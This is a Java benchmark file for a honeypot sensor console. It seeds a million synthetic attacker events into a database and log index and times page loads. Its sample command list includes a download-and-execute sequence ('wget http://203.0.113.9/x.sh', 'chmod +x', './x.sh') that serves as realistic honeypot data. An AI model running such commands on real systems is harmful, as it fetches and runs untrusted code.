package io.rustbucket.bench;

import io.rustbucket.alerts.Alerts;
import io.rustbucket.alerts.AlertsConfig;
import io.rustbucket.alerts.monitor.SensorWatch;
import io.rustbucket.console.Console;
import io.rustbucket.core.auth.AuthConfig;
import io.rustbucket.core.auth.PasswordHasher;
import io.rustbucket.core.auth.Role;
import io.rustbucket.core.http.ApiServer;
import io.rustbucket.core.http.HttpLimits;
import io.rustbucket.core.json.Json;
import io.rustbucket.core.llm.LlmConfig;
import io.rustbucket.core.runtime.CoreServices;
import io.rustbucket.core.sql.DatabaseConfig;
import io.rustbucket.core.store.StoreConfig;
import io.rustbucket.logs.LogPlatform;
import io.rustbucket.logs.LogsConfig;
import io.rustbucket.logs.ecs.EcsNormalizer;
import io.rustbucket.logs.ecs.LogEvent;
import io.rustbucket.logs.index.LogQuery;
import io.rustbucket.registry.Registry;
import io.rustbucket.registry.RegistryConfig;
import io.rustbucket.registry.sensors.SensorStatus;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.UUID;

/**
 * Console server time with 1,000,000 parsed events in SQL (the overview's charts and top lists, sessions,
 * replays) and 1,000,000 events in the Lucene log index (log search), on the embedded defaults {@code up} uses
 * (H2 file database). Each page is fetched over loopback HTTP with a signed-in session; p50/p95 of 40 requests
 * after 5 warm-ups. Also the page weight of the overview (HTML + scripts + styles, before chart data) and a cold
 * first load (HTML then every asset, one after the other). Usage: ConsoleBench [events].
 */
public final class ConsoleBench {
    static final String[] PROTOCOLS = {"ssh", "telnet", "http", "ftp", "smtp"};
    static final String[] COMMANDS = {
        "uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.9/x.sh", "chmod +x x.sh", "./x.sh", "busybox", "id"
    };

    public static void main(String[] args) throws Exception {
        int total = args.length > 0 ? Integer.parseInt(args[0]) : 1_000_000;
        Path dir = Files.createTempDirectory("rb-console-bench");
        CoreServices core = CoreServices.open(
                dir,
                DatabaseConfig.defaults(),
                StoreConfig.defaults(),
                AuthConfig.defaults(),
                LlmConfig.defaults(),
                Map.of(),
                new PasswordHasher(1024, 1),
                Clock.systemUTC());
        LogPlatform logs = LogPlatform.start(core, LogsConfig.defaults());
        Registry registry = Registry.open(core, RegistryConfig.defaults());
        Alerts alerts = Alerts.unscheduled(
                core, Json.mapper().convertValue(Map.of(), AlertsConfig.class), logs, SensorWatch.NONE, "");
        Console console =
                new Console(core, new Console.Systems(Optional.of(registry), Optional.of(logs), Optional.of(alerts)));
        ApiServer http = ApiServer.start(
                "127.0.0.1",
                0,
                HttpLimits.defaults(),
                core.readiness(),
                core.metrics(),
                List.of(core.authRoutes(), logs.routes(), registry.routes(), alerts.routes(), console));
        String base = "http://127.0.0.1:" + http.port();
        core.accounts().create("bench", null, null, "bench-pass-123", Set.of(Role.ADMIN), false);

        String sensorId = registerSensor(registry);
        long t0 = System.nanoTime();
        String session = seedSql(core, sensorId, total);
        System.out.printf("seeded %,d parsed events in SQL in %.1f s%n", total, (System.nanoTime() - t0) / 1e9);
        t0 = System.nanoTime(); // the parser keeps these counts as it goes; here they are built in one pass
        long counted = registry.activity().rebuildIfEmpty();
        System.out.printf("built the hourly counts of %,d events in %.1f s%n", counted, (System.nanoTime() - t0) / 1e9);
        t0 = System.nanoTime();
        seedIndex(logs, total);
        System.out.printf("indexed %,d events in Lucene in %.1f s%n", total, (System.nanoTime() - t0) / 1e9);

        HttpClient client = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .followRedirects(HttpClient.Redirect.NEVER)
                .build();
        String cookie = signIn(client, base);
        Map<String, String> pages = new LinkedHashMap<>();
        pages.put("overview 24h", "/?range=24h");
        pages.put("overview 30d", "/?range=30d");
        pages.put("overview chart 30d (JSON)", "/console/overview/timeline?range=30d");
        pages.put("sensors", "/sensors");
        pages.put("sessions", "/sessions");
        pages.put("sessions, filter by IP", "/sessions?source_ip=203.0.113.7");
        pages.put("sessions, text search", "/sessions?text=wget");
        pages.put("session replay", "/sessions/" + session);
        pages.put("logs, query + filter", "/logs?q=wget&service=sensor&level=info");
        pages.put("logs, page 2", null);
        pages.put("analyses", "/analyses");
        pages.put("alerts", "/alerts");
        pages.put("rooms", "/rooms");
        pages.put("settings", "/settings");
        System.out.printf("%-28s %9s %9s %9s %9s %10s%n", "page", "first ms", "p50 ms", "p95 ms", "max ms", "bytes");
        for (var e : pages.entrySet()) {
            String path = e.getValue() != null ? e.getValue() : secondLogPage(client, base, cookie);
            List<Double> ms = new ArrayList<>();
            int bytes = 0;
            double firstMs = 0;
            for (int i = 0; i < 45; i++) {
                long s = System.nanoTime();
                HttpResponse<byte[]> r = get(client, base + path, cookie);
                double took = (System.nanoTime() - s) / 1e6;
                if (r.statusCode() != 200) {
                    throw new IllegalStateException(path + " answered " + r.statusCode());
                }
                bytes = r.body().length;
                if (i == 0) {
                    firstMs = took; // cold: nothing cached yet for this page
                }
                if (i >= 5) {
                    ms.add(took);
                }
            }
            ms.sort(Double::compare);
            System.out.printf(
                    "%-28s %9.1f %9.1f %9.1f %9.1f %10d%n",
                    e.getKey(),
                    firstMs,
                    ms.get(ms.size() / 2),
                    ms.get((int) Math.ceil(ms.size() * 0.95) - 1),
                    ms.getLast(),
                    bytes);
        }

        // Page weight and a cold first load of the overview: the HTML, then each asset it names.
        List<String> assets = List.of(
                "/assets/console.css",
                "/assets/uPlot.min.css",
                "/assets/htmx.min.js",
                "/assets/console.js",
                "/assets/uPlot.min.js",
                "/assets/overview.js",
                "/assets/favicon.svg");
        long first = System.nanoTime();
        int weight = get(client, base + "/?range=24h", cookie).body().length;
        for (String a : assets) {
            weight += get(client, base + a, cookie).body().length;
        }
        System.out.printf(
                "overview page weight before chart data: %,d bytes (goal < 300 KB); HTML + %d assets fetched one "
                        + "after another in %.0f ms (goal first load < 1 s)%n",
                weight, assets.size(), (System.nanoTime() - first) / 1e6);
        console.close();
        http.close();
        alerts.close();
        registry.close();
        logs.close();
        core.close();
    }

    static String registerSensor(Registry registry) {
        String key = registry.keys().create("bench", "bench-sensor", 1).key();
        var answer = registry.registration()
                .register(("{\"name\":\"bench-sensor\",\"ip_address\":\"198.51.100.20\",\"operating_system\":\"linux\","
                                + "\"token\":\"" + key + "\"}")
                        .getBytes(StandardCharsets.UTF_8));
        String id = String.valueOf(answer.body().get("id"));
        registry.sensors().setStatus(id, SensorStatus.ACTIVE, "bench");
        return id;
    }

    /** Sessions of ten events spread over 30 days: open, login, seven commands, close. Returns one session id. */
    static String seedSql(CoreServices core, String sensorId, int total) {
        Random r = new Random(7);
        Instant now = Instant.now();
        long span = Duration.ofDays(30).toMillis();
        int sessions = total / 10;
        String object = UUID.randomUUID().toString();
        String sample = null;
        for (int s0 = 0; s0 < sessions; s0 += 1000) {
            int from = s0;
            int to = Math.min(sessions, s0 + 1000);
            core.database().useHandle(h -> {
                var batch = h.prepareBatch("INSERT INTO sensor_events (id, event_key, archive_object_id, sensor_id, "
                        + "sensor_name, at, parsed_at, session_id, source_ip, source_port, protocol, action, "
                        + "user_name, user_password, input, response, responder, url, file_sha256) VALUES (:id, :key, "
                        + ":obj, :sid, 'bench-sensor', :at, :at, :session, :ip, 40000, :proto, :action, :user, :pw, "
                        + ":input, :response, :responder, :url, NULL)");
                for (int s = from; s < to; s++) {
                    Instant start = now.minusMillis((long) (r.nextDouble() * span));
                    String session = "S" + s;
                    String ip = "203.0." + r.nextInt(8) + "." + r.nextInt(256);
                    String proto = PROTOCOLS[r.nextInt(PROTOCOLS.length)];
                    for (int e = 0; e < 10; e++) {
                        String action = e == 0
                                ? "connection.open"
                                : e == 1 ? "login.attempt" : e == 9 ? "connection.close" : "command";
                        String input = action.equals("command") ? COMMANDS[r.nextInt(COMMANDS.length)] : null;
                        batch.bind("id", UUID.randomUUID().toString())
                                .bind("key", hex() + hex())
                                .bind("obj", object)
                                .bind("sid", sensorId)
                                .bind("at", start.plusSeconds(e))
                                .bind("session", session)
                                .bind("ip", ip)
                                .bind("proto", proto)
                                .bind("action", action)
                                .bind("user", e == 1 ? "root" : null)
                                .bind("pw", e == 1 ? "pass" + r.nextInt(50) : null)
                                .bind("input", input)
                                .bind("response", input == null ? null : "output of " + input)
                                .bind("responder", input == null ? null : "emulator")
                                .bind("url", input != null && input.startsWith("wget") ? input.substring(5) : null)
                                .add();
                    }
                }
                batch.execute();
            });
            if (sample == null) {
                sample = "S" + from;
            }
        }
        return sample;
    }

    /** 32 random hex digits: two make a unique 64-character event key. */
    static String hex() {
        return UUID.randomUUID().toString().replace("-", "");
    }

    static void seedIndex(LogPlatform logs, int total) throws Exception {
        Instant base = Instant.now().minus(Duration.ofDays(3));
        Random r = new Random(2);
        List<LogEvent> batch = new ArrayList<>();
        for (int i = 0; i < total; i++) {
            batch.add(EcsNormalizer.normalize(
                    Json.mapper().readTree(LogsBench.event(r, i, base.plusMillis(i * 200L))), Instant.now()));
            if (batch.size() == 5000) {
                logs.index().index(batch);
                batch.clear();
            }
        }
        logs.index().index(batch);
        LogQuery all = new LogQuery("", Map.of(), null, null, 1, null);
        while (logs.search(all).total() < total) {
            Thread.sleep(100);
        }
    }

    static String signIn(HttpClient client, String base) throws Exception {
        HttpResponse<String> r = client.send(
                HttpRequest.newBuilder(URI.create(base + "/login"))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(HttpRequest.BodyPublishers.ofString("account=bench&password=bench-pass-123&next=/"))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        StringBuilder cookie = new StringBuilder();
        for (String c : r.headers().allValues("Set-Cookie")) {
            cookie.append(cookie.isEmpty() ? "" : "; ").append(c.split(";", 2)[0]);
        }
        if (r.statusCode() != 303 || !cookie.toString().contains("rb_session=")) {
            throw new IllegalStateException("sign-in failed: " + r.statusCode());
        }
        return cookie.toString();
    }

    static String secondLogPage(HttpClient client, String base, String cookie) throws Exception {
        String html = new String(
                get(client, base + "/logs?q=wget&service=sensor&level=info", cookie)
                        .body(),
                StandardCharsets.UTF_8);
        int i = html.indexOf("id=\"next-page\" href=\"");
        if (i < 0) {
            throw new IllegalStateException("no second page of logs");
        }
        int start = i + "id=\"next-page\" href=\"".length();
        return html.substring(start, html.indexOf('"', start)).replace("&amp;", "&");
    }

    static HttpResponse<byte[]> get(HttpClient client, String url, String cookie) throws Exception {
        return client.send(
                HttpRequest.newBuilder(URI.create(url))
                        .header("Cookie", cookie)
                        .GET()
                        .build(),
                HttpResponse.BodyHandlers.ofByteArray());
    }
}
